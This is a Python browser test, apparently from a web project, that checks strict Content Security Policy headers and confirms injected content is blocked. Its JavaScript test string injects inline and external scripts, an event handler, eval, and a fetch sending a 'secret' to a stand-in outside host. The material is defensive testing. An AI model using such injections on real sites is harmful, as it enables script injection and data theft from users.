"""The content security policy in Chromium: no page of ours breaks it, and what is smuggled into one does not run."""

from typing import Any

from tests.browser.chromium import Browsers

PAGES = ("/", "/board", "/wall", "/api/docs")
SMUGGLED = """async () => {
  const broken = [];
  document.addEventListener("securitypolicyviolation", (event) => broken.push(event.effectiveDirective));
  const add = (tag, fields) => document.body.append(Object.assign(document.createElement(tag), fields));
  add("script", { textContent: "window.ran = 'inline'" });
  add("script", { src: "https://elsewhere.example/x.js" });
  add("img", { src: "https://elsewhere.example/x.png" });
  add("iframe", { src: "https://elsewhere.example/" });
  add("style", { textContent: "body { background: red }" });
  const button = document.createElement("button");
  button.setAttribute("onclick", "window.ran = 'handler'");
  document.body.append(button);
  button.click();
  setTimeout(() => new Function("window.ran = 'eval'")()); // at once, the policy would let a debugger do it
  await fetch("https://elsewhere.example/?secret").catch(() => null);
  await new Promise((done) => setTimeout(done, 300));
  return { broken: [...new Set(broken)].sort(), ran: window.ran ?? null };
}"""


async def test_no_page_breaks_the_policy_and_nothing_smuggled_in_runs(chromium: Browsers) -> None:
    screen = await chromium.open(path="/board")
    await screen.log_in("2001")
    for path in PAGES:
        answer = await screen.page.goto(chromium.url + path)
        assert answer is not None
        assert answer.headers["content-security-policy"].startswith("default-src 'none'; script-src 'self'; ")
        assert "unsafe" not in answer.headers["content-security-policy"]
        await screen.page.wait_for_load_state("load")
        assert screen.watch.faults == []  # a violation is an error on the console
    result: dict[str, Any] = await screen.page.evaluate(SMUGGLED)
    assert result["ran"] is None
    assert set(result["broken"]) >= {
        "connect-src",
        "frame-src",
        "img-src",
        "script-src-attr",
        "script-src-elem",
        "style-src-elem",
    }
    assert sum("Content Security Policy" in fault for fault in screen.watch.faults) >= len(result["broken"])
    screen.watch.faults.clear()  # they were meant to be
